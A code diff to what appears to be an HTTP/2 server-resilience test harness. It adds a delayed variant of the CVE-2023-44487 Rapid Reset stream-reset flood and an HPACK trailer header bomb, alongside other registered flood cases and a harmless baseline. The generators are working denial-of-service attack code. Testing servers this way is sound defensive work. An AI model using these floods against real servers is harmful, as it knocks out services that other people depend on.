@@ -35,6 +35,17 @@ def rapid_reset(client):
         yield b"".join(h + frame(RST_STREAM, 0, s, (8).to_bytes(4, "big")) for h, s in zip(heads, streams))
 
 
+def late_reset(client):
+    """CVE-2023-44487 with a pause before the resets, so that each request has begun upstream."""
+    first = 1
+    while True:
+        heads, streams = requests(client, "/hang", 50, first)
+        first = streams[-1] + 2
+        yield b"".join(heads)
+        time.sleep(0.005)
+        yield b"".join(frame(RST_STREAM, 0, s, (8).to_bytes(4, "big")) for s in streams)
+
+
 def zero_increment(client):
     """A WINDOW_UPDATE of nothing: made-you-reset where a server resets the stream for it; here it ends everything."""
     first = 1
@@ -109,6 +120,17 @@ def header_bomb(client):
         stream += 2
 
 
+def trailer_bomb(client):
+    """The same in trailers."""
+    import hpack
+    encoder = hpack.Encoder()
+    stream = 1
+    yield frame(HEADERS, END_HEADERS, 1, encoder.encode(client.fields("POST", "/digest")))
+    base = encoder.encode([("x-bomb", "b" * 3500)])
+    while True:
+        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, base + b"\xbe" * 10000)
+
+
 def settings(client):
     while True:
         yield frame(SETTINGS, 0, 0, (4).to_bytes(2, "big") + (65535).to_bytes(4, "big")) * 50
@@ -173,9 +195,10 @@ def zero_window(client):
 
 
 def harmless(client):
+    """Each takes a connection to the API server of its own, as an attacker's requests do."""
     first = 1
     while True:
-        heads, streams = requests(client, "/warm", 50, first)
+        heads, streams = requests(client, "/fresh", 50, first)
         first = streams[-1] + 2
         yield b"".join(heads)
         while not client.socket_answers(streams[-1]):
@@ -258,9 +281,10 @@ class Attack:
 
 
 CASES = {
-    "rapid-reset": rapid_reset, "made-you-reset": made_you_reset, "long-body": long_body, "bad-field": bad_field,
-    "zero-increment": zero_increment, "data-behind-end": data_behind_end,
+    "rapid-reset": rapid_reset, "late-reset": late_reset, "made-you-reset": made_you_reset, "long-body": long_body,
+    "bad-field": bad_field, "zero-increment": zero_increment, "data-behind-end": data_behind_end,
     "continuation": continuation, "empty-continuation": empty_continuation, "header-bomb": header_bomb,
+    "trailer-bomb": trailer_bomb,
     "settings": settings, "ping": ping, "unread-ping": unread_ping, "priority": priority, "unknown": unknown,
     "window-updates": window_updates, "empty-data": empty_data, "padded-data": padded_data,
     "zero-window": zero_window, "too-many-streams": too_many_streams, "harmless": harmless,
